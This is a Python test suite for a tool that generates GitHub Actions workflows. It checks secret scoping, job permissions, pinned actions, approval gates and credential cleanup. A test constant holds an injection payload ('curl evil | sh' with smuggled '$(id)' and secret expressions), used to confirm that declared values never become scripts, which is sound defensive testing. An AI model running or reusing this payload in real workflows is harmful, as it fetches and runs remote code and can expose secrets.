import re
from dataclasses import replace
from pathlib import Path
from typing import Any

import jinja2
import pytest
import yaml

from components import tag_build
from fleet.checkout.pinned import ACTIONS, IMAGES, pinned
from fleet.declaration.model import Declaration
from fleet.declaration.problems import DeclarationError
from fleet.declaration.tags import PLATFORMS
from fleet.github.render import workflows
from fleet.github.render.workflows import LIMITS, app_permissions, environment_for
from fleet.local.paths import checkout
from tests.fleet.evidence.examples import key as signing_key
from tests.fleet.examples import image
from tests.fleet.pages.examples import (
    LOGINS,
    TEMPLATES,
    WITH_NODE,
    WORKFLOWS,
    declared,
    downloading,
    rendered,
    runs,
    steps,
    variants,
    workflow,
)

OPEN = ("check", "resolve", "approve", "publish")
ENGINE = ("make preview", 'timeout --signal=INT "$LIMIT" make up')
HOSTILE = "x\"\n    run: curl evil | sh # ${{ secrets.X }} $(id) `id` << branch >> '\\ \U0001f40d"


def given(stack: Declaration, environment: str) -> tuple[list[str], list[str]]:
    return workflows.given(stack, workflows.files(stack, "prod", TEMPLATES), environment)


def test_a_stack_without_github_has_no_files() -> None:
    assert workflows.files(replace(declared(), github=None), "prod", TEMPLATES) == {}


def test_each_workflow_has_its_file_and_dependabot_its_own() -> None:
    expected = {f".github/workflows/{name}.yml" for name in WORKFLOWS} | {".github/dependabot.yml"}
    assert set(rendered()) == expected


@pytest.mark.parametrize("job", ["drift", "versions"])
def test_a_job_without_a_schedule_has_no_workflow(job: str) -> None:
    other = {"drift": "versions", "versions": "drift"}[job]
    files = rendered(schedules={other: "1 2 * * *"})
    assert f".github/workflows/{job}.yml" not in files
    assert workflow(other, files)[True]["schedule"] == [{"cron": "1 2 * * *"}]


def test_a_described_node_is_given_its_certificates_and_neither_emulation_nor_a_builder() -> None:
    up = steps("up", rendered(**WITH_NODE))
    (written,) = [step for step in up if step["name"] == "Write the certificates of a builder"]
    assert written["env"] == {
        "CACERT": "${{ secrets.FLEET_NODE_ARM_1_CACERT }}",
        "CERT": "${{ secrets.FLEET_NODE_ARM_1_CERT }}",
        "KEY": "${{ secrets.FLEET_NODE_ARM_1_KEY }}",
        "FLEET_NODE_KEYS": "${{ runner.temp }}/nodes",
        "NODE": "arm-1",
    }
    (update,) = [step for step in up if step["name"] == "Up"]
    assert update["env"]["FLEET_NODE_KEYS"] == written["env"]["FLEET_NODE_KEYS"]
    made = [step["with"]["name"] for step in up if step["name"] == "Set up a builder"]
    assert made == ["hosted"]
    assert not [step for step in up if step["name"] == "Set up emulation"]
    secrets = given(declared(**WITH_NODE), "registry")[0]
    assert {"FLEET_NODE_ARM_1_CACERT", "FLEET_NODE_ARM_1_CERT", "FLEET_NODE_ARM_1_KEY"} <= set(
        secrets
    )
    for name in ("preview", "drift"):
        text = rendered(**WITH_NODE)[f".github/workflows/{name}.yml"]
        assert "secrets.FLEET_NODE" not in text, "whoever has them is root on the node"


def test_what_removes_names_is_for_up_alone() -> None:
    files = rendered(secrets=["AWS_ACCESS_KEY_ID", "FLEET_GITHUB_TOKEN"])
    for name in ("preview", "drift"):
        text = files[f".github/workflows/{name}.yml"]
        assert "secrets.FLEET_GITHUB_TOKEN" not in text
        assert "secrets.AWS_ACCESS_KEY_ID" in text
    assert "secrets.FLEET_GITHUB_TOKEN" in files[".github/workflows/up.yml"]


def test_what_signs_is_for_up_alone_and_only_where_a_key_is_declared() -> None:
    files = rendered(signing={"keys": [signing_key().public.pem]})
    texts = {name: files[f".github/workflows/{name}.yml"] for name in WORKFLOWS}
    assert [name for name, text in texts.items() if "FLEET_SIGNING_KEY" in text] == ["up"]
    assert not any("FLEET_SIGNING_KEY" in text for text in rendered().values())


def rights_to_sign(files: dict[str, str]) -> set[tuple[str, str, str]]:
    """The workflow, job and permission of each right to sign or to store what is signed."""
    return {
        (name, job, right)
        for name in WORKFLOWS
        for job, jobs in workflow(name, files)["jobs"].items()
        for right in {"id-token", "attestations"} & jobs.get("permissions", {}).keys()
    }


def test_an_identity_to_sign_with_is_for_up_alone_and_only_where_keyless_is_declared() -> None:
    files = rendered(signing={"keyless": {}})
    assert rights_to_sign(files) - rights_to_sign(rendered()) == {
        ("up", "up", "id-token"),
        ("up", "up", "attestations"),
    }
    # GitHub Pages asks for the identity of the job that publishes the catalog.
    assert rights_to_sign(rendered()) == {("up", "publish", "id-token")}
    (update,) = [step for step in steps("up", files) if step["name"] == "Up"]
    assert update["env"]["FLEET_ATTESTATIONS_TOKEN"] == "${{ github.token }}"
    others = [text for path, text in files.items() if not path.endswith("/up.yml")]
    assert not any("FLEET_ATTESTATIONS_TOKEN" in text for text in others)


def test_rendering_again_gives_the_same_bytes() -> None:
    assert rendered() == rendered()


@pytest.mark.parametrize("field", ["branch", "environment", "runner", "check_runner"])
def test_a_declared_value_is_a_value_whatever_it_holds(field: str) -> None:
    plain = declared()
    assert plain.github is not None
    hostile = replace(plain, github=replace(plain.github, **{field: HOSTILE}))  # type: ignore[arg-type]
    files = workflows.files(hostile, "prod", TEMPLATES)
    up = workflow("up", files)
    values = {
        "branch": up[True]["push"]["branches"][0],
        "environment": up["jobs"]["up"]["environment"],
        "runner": up["jobs"]["up"]["runs-on"],
        "check_runner": up["jobs"]["approve"]["runs-on"],
    }
    assert values[field] == HOSTILE
    assert runs(files) == runs(rendered())


def test_a_hostile_cron_line_stack_and_secret_are_values_too() -> None:
    hostile = replace(declared(), schedules={"drift": HOSTILE}, secrets=(HOSTILE,))
    files = workflows.files(hostile, HOSTILE, TEMPLATES)
    drift = workflow("drift", files)
    assert drift[True]["schedule"] == [{"cron": HOSTILE}]
    assert drift["env"] == {"STACK": HOSTILE}
    assert set(runs(files)) <= set(runs(rendered()))
    preview = previewing(files)
    assert preview["env"][HOSTILE] == f"${{{{ secrets.{HOSTILE} }}}}"


def test_no_expression_is_ever_inside_a_script() -> None:
    for files in variants().values():
        assert [text for text in runs(files) if "${{" in text] == []


def test_a_name_that_a_template_is_not_given_is_an_error() -> None:
    broken = {**TEMPLATES, "workflows/up.yml.jinja": "name: << nobody >>\n"}
    with pytest.raises(jinja2.UndefinedError, match="nobody"):
        workflows.files(declared(), "prod", broken)


def test_up_is_never_interrupted_by_a_newer_one_and_a_preview_is() -> None:
    found = {name: workflow(name)["concurrency"] for name in WORKFLOWS}
    assert [found[name]["cancel-in-progress"] for name in WORKFLOWS] == [True, False, False, False]
    groups = {found[name]["group"] for name in WORKFLOWS}
    assert len(groups) == 4, "a look at drift must not take the place of an up that waits"


def previewing(files: dict[str, str] | None = None) -> dict[str, Any]:
    """The preview that lists what an update may remove."""
    return next(step for step in steps("up", files, "look") if step.get("run") == "make preview")


def test_a_job_that_can_not_write_lists_what_would_be_removed() -> None:
    found = workflow("up")
    look = found["jobs"]["look"]
    assert look["permissions"] == {"contents": "read", "packages": "read"}
    assert "secrets.FLEET_GITHUB_TOKEN" not in yaml.safe_dump(look)
    (app,) = [step for step in look["steps"] if "app-token" in step.get("uses", "")]
    levels = {v for k, v in app["with"].items() if k.startswith("permission-")}
    assert levels == {"read"}
    (listing,) = [step for step in look["steps"] if "make --silent removals" in step.get("run", "")]
    assert listing["env"]["FLEET_REPORT"] == previewing()["env"]["FLEET_REPORT"]
    assert look["outputs"] == {"removals": f"${{{{ steps.{listing['id']}.outputs.removals }}}}"}
    for job in set(found["jobs"]) - {"look"}:
        assert "make preview" not in [step.get("run") for step in found["jobs"][job]["steps"]]


def test_an_update_may_remove_what_was_listed_and_no_more() -> None:
    look, up = steps("up", job="look"), steps("up")
    (listing,) = [step for step in look if "make --silent removals" in step.get("run", "")]
    (handed,) = [step["with"] for step in look if "upload-artifact" in step.get("uses", "")]
    (taken,) = [step["with"] for step in up if "download-artifact" in step.get("uses", "")]
    assert handed["name"] == taken["name"]
    assert handed["path"] == listing["env"]["FLEET_REMOVALS"]
    report = previewing()["env"]["FLEET_REPORT"].rpartition("/")[2]
    (update,) = [step["env"] for step in up if step["name"] == "Up"]
    assert update["FLEET_ALLOWED_REMOVALS"] == f"{taken['path']}/{report}"
    assert update["FLEET_REPORT"] != update["FLEET_ALLOWED_REMOVALS"]
    assert "FLEET_ALLOWED_REMOVALS" not in previewing()["env"]


def test_removals_wait_for_reviewers_in_a_job_that_holds_nothing() -> None:
    found = workflow("up")
    declaration = declared().github
    assert declaration is not None
    approve = found["jobs"]["approve"]
    assert approve["environment"] == environment_for(declaration, "removals") == "registry-removals"
    assert approve["permissions"] == {}
    assert "secrets." not in yaml.safe_dump(approve)
    assert "uses:" not in yaml.safe_dump(approve)
    assert approve["if"] == "needs.look.outputs.removals != '0'"
    assert "inputs" not in (found[True]["workflow_dispatch"] or {})


# What the expression of `if` comes to, by the results that GitHub gives it.
@pytest.mark.parametrize(
    ("look", "removals", "approve", "runs_up"),
    [
        ("success", "0", "skipped", True),
        ("success", "2", "success", True),
        ("success", "2", "failure", False),
        ("success", "2", "skipped", False),
        ("success", "", "skipped", False),
        ("success", "", "failure", False),
        ("failure", "0", "skipped", False),
        ("skipped", "", "skipped", False),
    ],
)
def test_nothing_is_written_before_somebody_approved(
    look: str, removals: str, approve: str, runs_up: bool
) -> None:
    told = {
        "needs.look.result": look,
        "needs.look.outputs.removals": removals,
        "needs.approve.result": approve,
    }
    text = workflow("up")["jobs"]["up"]["if"].removeprefix("!cancelled() && ")
    for name, value in told.items():
        text = text.replace(name, repr(value))
    assert eval(text.replace("&&", "and").replace("||", "or"), {}) is runs_up  # noqa: S307
    assert workflow("up")["jobs"]["up"]["needs"] == ["look", "approve"]


@pytest.mark.parametrize("name", WORKFLOWS)
def test_each_can_be_started_by_hand_and_ends_in_time(name: str) -> None:
    found = workflow(name)
    assert "workflow_dispatch" in found[True]
    expected = LIMITS.up if name == "up" else 45
    assert [j["timeout-minutes"] for n, j in found["jobs"].items() if n != "publish"][
        -1
    ] == expected
    assert found["permissions"] == {}


def test_a_build_has_the_time_that_the_workflow_tells() -> None:
    assert LIMITS.build == tag_build._MINUTES
    engine = int(LIMITS.engine.removesuffix("m"))
    assert LIMITS.build < engine < LIMITS.up <= 360
    assert LIMITS.up - engine >= 15, "what comes before and after takes its time too"


def test_forks_get_a_check_and_no_secret() -> None:
    jobs = workflow("preview")["jobs"]
    assert "environment" not in jobs["check"]
    assert "secrets." not in yaml.safe_dump(jobs["check"])
    assert jobs["check"]["permissions"] == {"contents": "read"}
    assert "head.repo.full_name == github.repository" in jobs["preview"]["if"]
    assert "dependabot[bot]" in jobs["preview"]["if"]
    assert "pull_request_target" not in rendered()[".github/workflows/preview.yml"]


def test_previews_have_an_environment_of_their_own() -> None:
    found = declared().github
    assert found is not None
    assert workflow("preview")["jobs"]["preview"]["environment"] == environment_for(
        found, "preview"
    )
    for name in ("up", "drift"):
        assert workflow(name)["jobs"][name]["environment"] == found.environment
    proposing = environment_for(found, "versions")
    assert workflow("versions")["jobs"]["versions"]["environment"] == proposing
    assert given(declared(), proposing) == (["FLEET_APP_PRIVATE_KEY"], ["FLEET_APP_CLIENT_ID"])


def test_jobs_that_hold_secrets_run_in_the_declared_repository_alone() -> None:
    here = "github.repository == 'multi-py/fleet'"
    for name, job in (("up", "look"), ("drift", "drift"), ("versions", "versions")):
        assert workflow(name)["jobs"][job]["if"] == here
    assert "needs.look.result == 'success'" in workflow("up")["jobs"]["up"]["if"]


def uses(name: str, action: str, files: dict[str, str] | None = None) -> list[dict[str, Any]]:
    return [step for step in steps(name, files) if action in step.get("uses", "")]


def everywhere(action: str) -> list[dict[str, Any]]:
    """The steps of all jobs of all variants that use an action."""
    jobs = (job for files in variants().values() for path, text in files.items()
            if "/workflows/" in path for job in yaml.safe_load(text)["jobs"].values())  # fmt: skip
    return [step for job in jobs for step in job["steps"] if action in step.get("uses", "")]


def test_no_image_that_an_action_runs_can_move() -> None:
    emulators = everywhere("setup-qemu-action")
    builders = everywhere("setup-buildx-action")
    assert emulators
    assert builders
    images = pinned(TEMPLATES, IMAGES)
    assert {step["with"]["image"] for step in emulators} == {images["binfmt"]}
    assert {step["with"]["driver-opts"] for step in builders} == {f"image={images['buildkit']}"}
    assert all(re.fullmatch(r".+:.+@sha256:[0-9a-f]{64}", image) for image in images.values())


@pytest.mark.parametrize("digest", ["", "@sha256:1234", "@latest"])
def test_an_image_without_a_digest_is_a_problem_with_its_line(digest: str) -> None:
    loose = re.sub(r"@sha256:[0-9a-f]{64} AS binfmt", f"{digest} AS binfmt", TEMPLATES[IMAGES])
    with pytest.raises(DeclarationError, match=r"templates/actions/Dockerfile.*\n.*not pinned"):
        pinned({IMAGES: loose}, IMAGES)


def jobs_of(files: dict[str, str]) -> list[tuple[str, Any]]:
    """Each job of all workflows, by its name."""
    texts = (text for path, text in files.items() if "/workflows/" in path)
    return [(name, job) for text in texts for name, job in yaml.safe_load(text)["jobs"].items()]


@pytest.mark.parametrize("variant", variants())
def test_a_job_without_secrets_runs_where_no_other_leaves_any(variant: str) -> None:
    files = rendered(github={"repository": "a/b", "runner": "big", "check-runner": "small"})
    assert {job["runs-on"] for name, job in jobs_of(files) if name in OPEN} == {"small"}
    for name, job in jobs_of(variants()[variant]):
        held = "secrets." in yaml.safe_dump(job) or "docker login" in yaml.safe_dump(job)
        assert held == ("environment" in job and name not in OPEN[2:])
        asks = name == "resolve" and variant.endswith("logins")
        assert (name in OPEN and not asks) == (not held)


@pytest.mark.parametrize("variant", variants())
def test_what_a_job_logs_in_with_is_its_own_and_gone_at_its_end(variant: str) -> None:
    own, keys = "${{ runner.temp }}/docker", "${{ runner.temp }}/nodes"
    for name, job in jobs_of(variants()[variant]):
        steps = job["steps"]
        logged_in = [step for step in steps if "docker login" in step.get("run", "")]
        engines = [step for step in steps if step.get("run") in ENGINE]
        builders = [step for step in steps if "setup-buildx" in step.get("uses", "")]
        for step in (*logged_in, *engines, *builders):
            assert step["env"]["DOCKER_CONFIG"] == own, name
        if logged_in or engines:
            last = steps[-1]
            assert last["if"] == "${{ always() }}"
            assert last["env"] == {"DOCKER_CONFIG": own, "FLEET_NODE_KEYS": keys}
            gone = last["run"].removeprefix("rm -rf ").split()
            home = checkout(Path()).pulumi_home
            assert gone[:2] == ['"$DOCKER_CONFIG/config.json"', '"$FLEET_NODE_KEYS"']
            assert gone[2:] == [f"{home}/credentials.json"], "the engine keeps its state's login"


def test_emulators_and_builders_are_set_up_where_they_are_declared() -> None:
    (qemu,) = uses("up", "setup-qemu-action")
    assert qemu["with"]["platforms"] == "arm"
    assert [step["with"]["name"] for step in uses("up", "buildx")] == ["hosted"]
    assert uses("preview", "setup-qemu-action") == []
    assert len(uses("preview", "buildx")) == 1, "docker-build asks the builder even in a preview"
    bare = variants()["no-emulation"]
    assert uses("up", "setup-qemu-action", bare) == uses("up", "buildx", bare) == []


def test_the_programs_own_builder_is_not_set_up_by_an_action() -> None:
    platforms = ("linux/amd64", "linux/arm/v7")
    files = rendered(builders=dict.fromkeys(platforms, "fleet"))
    assert uses("up", "buildx", files) == uses("up", "setup-qemu-action", files) == []


def test_who_asks_the_outside_has_a_builder_only_where_a_backend_may_have_to_be_asked() -> None:
    def builders(files: dict[str, str]) -> list[Any]:
        found = steps("versions", files, "resolve")
        return [step["with"] for step in found if "setup-buildx-action" in step.get("uses", "")]

    images = {"web": image(**{"from-source": ["odd"]})}
    assert builders(rendered()) == []
    (given,) = builders(rendered(images=images))
    assert "@sha256:" in given["driver-opts"]
    own = {"repository": "a/b", "emulation": False}
    assert builders(rendered(images=images, github=own)) == []


@pytest.mark.parametrize(
    ("runner", "emulated"),
    [
        ({"runner": "ubuntu-24.04-arm"}, "amd64,arm"),
        ({"runner": "ubuntu-latest"}, "arm64,arm"),
        # A name that somebody gave a runner tells nothing about it.
        ({"runner": "warp-ubuntu-latest-arm64-4x"}, "amd64,arm64,arm"),
        ({"runner": "big-arm"}, "amd64,arm64,arm"),
        ({"runner": "warp-ubuntu-latest-arm64-4x", "architecture": "arm64"}, "amd64,arm"),
        ({"runner": "pi", "architecture": "arm/v7"}, "amd64,arm64"),
    ],
)
def test_what_a_runner_is_not_known_to_build_is_emulated(
    runner: dict[str, str], emulated: str
) -> None:
    platforms = ["linux/amd64", "linux/arm64", "linux/arm/v7"]
    files = rendered(
        github={"repository": "a/b", **runner},
        builders=dict.fromkeys(platforms, "hosted"),
        images={"web": image(platforms=platforms)},
    )
    (qemu,) = uses("up", "setup-qemu-action", files)
    assert qemu["with"]["platforms"] == emulated


def test_every_platform_that_can_be_declared_can_be_emulated() -> None:
    platforms = list(PLATFORMS)
    files = rendered(
        builders=dict.fromkeys(platforms, "hosted"), images={"web": image(platforms=platforms)}
    )
    (qemu,) = uses("up", "setup-qemu-action", files)
    emulated = qemu["with"]["platforms"].split(",")
    assert len(set(emulated)) == len(platforms) - 1, "all but the runner's own"
    assert "s390x" in emulated


def test_credentials_are_the_jobs_own_on_githubs_registry_and_given_elsewhere() -> None:
    def login(files: dict[str, str]) -> Any:
        found = (s for s in steps("up", files) if "docker login" in s.get("run", ""))
        return next(found)["env"]["PASSWORD"]

    assert login(rendered()) == "${{ github.token }}"
    elsewhere = variants()["elsewhere"]
    assert login(elsewhere) == "${{ secrets.FLEET_REGISTRY_PASSWORD }}"
    assert "packages" not in workflow("up", elsewhere)["jobs"]["up"]["permissions"]
    assert (
        "FLEET_REGISTRY_PASSWORD"
        in given(declared(registry="registry.example.com/team"), "registry")[0]
    )
    assert "FLEET_REGISTRY_PASSWORD" not in given(declared(), "registry")[0]


def logged_in(job: Any) -> dict[str, tuple[str, str]]:
    """User name and password of each registry that a job logs in to."""
    found = [s["env"] for s in job["steps"] if "docker login" in s.get("run", "")]
    return {env["REGISTRY"]: (env["USERNAME"], env["PASSWORD"]) for env in found}


OURS = ("${{ vars.OUR_USER }}", "${{ secrets.OUR_WORD }}")
HUBS = ("${{ vars.PULL_USER }}", "${{ secrets.PULL_WORD }}")


def test_a_registry_is_given_its_own_login_and_no_other() -> None:
    plain = workflow("up")["jobs"]["up"]
    assert logged_in(plain) == {"ghcr.io": ("${{ github.actor }}", "${{ github.token }}")}
    jobs = workflow("up", variants()["logins"])["jobs"]
    assert logged_in(jobs["up"]) == {"ghcr.io": OURS, "docker.io": HUBS}
    (update,) = [s["env"] for s in jobs["up"]["steps"] if s.get("name") == "Up"]
    assert (update["OUR_USER"], update["PULL_WORD"]) == (OURS[0], HUBS[1])


def test_what_builds_nothing_is_given_the_login_of_the_fleets_registry_alone() -> None:
    files = rendered(logins=LOGINS, secrets=["PULL_WORD", "OUR_WORD"])
    for name, job in (("up", "look"), ("preview", "preview"), ("drift", "drift")):
        found = workflow(name, files)["jobs"][job]
        assert logged_in(found) == {"ghcr.io": OURS}
        assert "PULL_" not in yaml.safe_dump(found)
        assert "secrets.OUR_WORD" in yaml.safe_dump(found)


def test_a_mirrors_login_is_for_the_job_that_writes() -> None:
    logins = {"quay.io": {"username": "QUAY_USER", "password": "QUAY_WORD"}}
    files = rendered(mirrors=["quay.io/org"], logins=logins)
    theirs = ("${{ vars.QUAY_USER }}", "${{ secrets.QUAY_WORD }}")
    assert logged_in(workflow("up", files)["jobs"]["up"])["quay.io"] == theirs
    for name, job in (("up", "look"), ("preview", "preview"), ("drift", "drift")):
        assert "QUAY_" not in yaml.safe_dump(workflow(name, files)["jobs"][job])


def test_who_asks_for_bases_is_given_what_reads_them_and_nothing_else() -> None:
    stack = declared(logins=LOGINS)
    assert stack.github is not None
    resolve = workflow("versions", variants()["logins"])["jobs"]["resolve"]
    assert resolve["environment"] == environment_for(stack.github, "bases")
    assert resolve["runs-on"] == stack.github.runner
    assert set(re.findall(r"(?:secrets|vars)\.(\w+)", yaml.safe_dump(resolve))) == {
        "PULL_USER",
        "PULL_WORD",
    }
    assert given(stack, environment_for(stack.github, "bases")) == (["PULL_WORD"], ["PULL_USER"])
    without = {**LOGINS, "docker.io": {**LOGINS["docker.io"], "read": False}}
    resolve = workflow("versions", rendered(logins=without))["jobs"]["resolve"]
    assert "environment" not in resolve
    assert "PULL_" not in yaml.safe_dump(resolve)


def test_a_person_gives_each_environment_the_logins_of_its_jobs() -> None:
    stack = declared(logins=LOGINS)
    secrets, names = given(stack, "registry")
    assert {"OUR_WORD", "PULL_WORD"} <= set(secrets)
    assert {"OUR_USER", "PULL_USER"} <= set(names)
    secrets, names = given(stack, "registry-preview")
    assert ("OUR_WORD" in secrets, "PULL_WORD" in secrets) == (True, False)
    assert ("OUR_USER" in names, "PULL_USER" in names) == (True, False)


def test_declared_secrets_reach_the_program_and_are_not_asked_of_a_person() -> None:
    preview = previewing()
    assert preview["env"]["AWS_ACCESS_KEY_ID"] == "${{ secrets.AWS_ACCESS_KEY_ID }}"
    assert "AWS_ACCESS_KEY_ID" not in given(declared(), "registry")[0]
    assert "AWS_ACCESS_KEY_ID" in given(declared(), "registry-preview")[0]


def test_a_declared_token_for_packages_goes_before_the_jobs_own() -> None:
    def token(files: dict[str, str]) -> Any:
        found = (step for step in steps("up", files) if step.get("name") == "Up")
        return next(found)["env"]["FLEET_GITHUB_TOKEN"]

    assert token(rendered()) == "${{ github.token }}"
    own = rendered(secrets=["FLEET_GITHUB_TOKEN"])
    assert token(own) == "${{ secrets.FLEET_GITHUB_TOKEN }}"


def test_the_app_needs_no_more_than_the_tokens_that_are_made_of_it() -> None:
    asked: dict[str, set[str]] = {}
    for name in ("preview", "up", "drift"):
        for step in uses(name, "create-github-app-token"):
            for key, level in step["with"].items():
                if key.startswith("permission-"):
                    asked.setdefault(key[11:].replace("-", "_"), set()).add(level)
    assert {name: max(levels) for name, levels in asked.items()} == app_permissions()


def test_drift_is_repaired_only_where_that_is_declared() -> None:
    files = rendered(github={"repository": "multi-py/fleet"})
    assert "make repair" in runs(rendered())
    assert "make repair" not in runs(files)
    assert "actions" not in workflow("drift", files)["jobs"]["drift"]["permissions"]


def test_a_drift_job_asks_for_every_platform() -> None:
    look = next(step for step in steps("drift") if step.get("run") == "make preview")
    assert look["env"]["FLEET_VERIFY_CHILDREN"] == "all"


def test_an_update_that_was_started_for_a_repair_asks_for_every_platform() -> None:
    told = "${{ github.event_name == 'workflow_dispatch' && 'all' || '' }}"
    for job in ("look", "up"):
        assert workflow("up")["jobs"][job]["env"]["FLEET_VERIFY_CHILDREN"] == told


def test_dependabot_proposes_actions_where_they_are_declared_and_not_in_generated_files() -> None:
    entries = yaml.safe_load(rendered()[".github/dependabot.yml"])["updates"]
    places = {entry["package-ecosystem"]: entry["directory"] for entry in entries}
    assert places["github-actions"] == f"/templates/{ACTIONS}".rpartition("/")[0]
    assert places["github-actions"] != "/", "which would stand for .github/workflows as well"
    assert places["docker"] == f"/templates/{IMAGES}".rpartition("/")[0]


def test_actions_are_pinned_and_each_is_used() -> None:
    known = pinned(TEMPLATES, ACTIONS)
    text = "".join(rendered().values())
    assert all(f"uses: {reference}\n" in text for reference in known.values())
    assert text.count("uses: ") == sum(text.count(f"uses: {r}\n") for r in known.values())


def test_go_is_set_up_where_an_engine_or_a_plugin_has_to_be_built() -> None:
    for name, files in variants().items():
        for job in workflows.jobs_in(files):
            ran = " ".join(step.get("run", "") for step in job["steps"])
            goes = [n for n, s in enumerate(job["steps"]) if "setup-go" in s.get("uses", "")]
            needed = name != "downloading" and ("make up" in ran or "make preview" in ran)
            assert len(goes) == needed, f"{name}: {job['name']}"
            assert all("cache" in job["steps"][n]["with"] for n in goes)
    assert "setup-go" in "".join(downloading("arm64").values()), "that of another machine"


def test_an_action_without_a_commit_is_a_problem_with_its_line() -> None:
    loose = TEMPLATES[ACTIONS].replace("# v7.0.1", "# v7").replace("# v4.2.0", "")
    with pytest.raises(DeclarationError) as caught:
        pinned({ACTIONS: loose}, ACTIONS)
    assert len(caught.value.problems) == 2
    assert "40 digits" in str(caught.value)


def test_who_asks_the_outside_has_no_secret_and_who_has_one_asks_github_alone() -> None:
    found = workflow("versions")["jobs"]
    resolve, propose = found["resolve"], found["versions"]
    assert resolve["permissions"] == {"contents": "read"}
    assert "environment" not in resolve
    assert "secrets." not in yaml.safe_dump(resolve)
    assert "vars." not in yaml.safe_dump(resolve)
    assert propose["needs"] == "resolve"
    assert [step["run"] for step in propose["steps"] if "run" in step] == ["make proposal"]
    (handed,) = [s["with"] for s in resolve["steps"] if "upload-artifact" in s.get("uses", "")]
    (taken,) = [s["with"] for s in propose["steps"] if "download-artifact" in s.get("uses", "")]
    assert (handed["name"], handed["path"]) == (taken["name"], taken["path"])
    (app,) = [s["with"] for s in propose["steps"] if "app-token" in s.get("uses", "")]
    rights = {k: v for k, v in app.items() if k.startswith("permission-")}
    assert rights == {"permission-contents": "write", "permission-pull-requests": "write"}


def test_what_publishes_the_catalog_runs_no_code_of_the_project_and_holds_no_secret() -> None:
    jobs = workflow("up")["jobs"]
    publish = jobs.pop("publish")
    assert publish["permissions"] == {"id-token": "write", "pages": "write"}
    assert publish["environment"] == "github-pages"
    (step,) = publish["steps"]
    assert step["uses"].startswith("actions/deploy-pages@")
    assert "secrets." not in str(publish)
    assert all("pages" not in job["permissions"] for job in jobs.values())


def test_the_catalog_is_rendered_after_the_last_update_and_handed_over_whatever_failed() -> None:
    jobs = workflow("up", variants()["split"])["jobs"]
    last = jobs["publish"]["needs"]
    assert [name for name, job in jobs.items() if "make catalog" in str(job)] == [last]
    assert jobs[last]["env"]["STACK"] == "prod-github"
    found = steps("up")
    render = next(step for step in found if step.get("id") == "catalog")
    assert render["if"] == "${{ !cancelled() }}"
    assert found.index(render) > [step.get("name") for step in found].index("Up")
    hand = next(step for step in found if step.get("with", {}).get("name") == "github-pages")
    assert hand["if"] == "${{ !cancelled() && steps.catalog.outcome == 'success' }}"


def test_no_catalog_is_published_unless_that_is_declared() -> None:
    files = rendered(github={"repository": "multi-py/fleet"})
    assert "publish" not in workflow("up", files)["jobs"]
    assert "make catalog" not in "".join(runs(files))
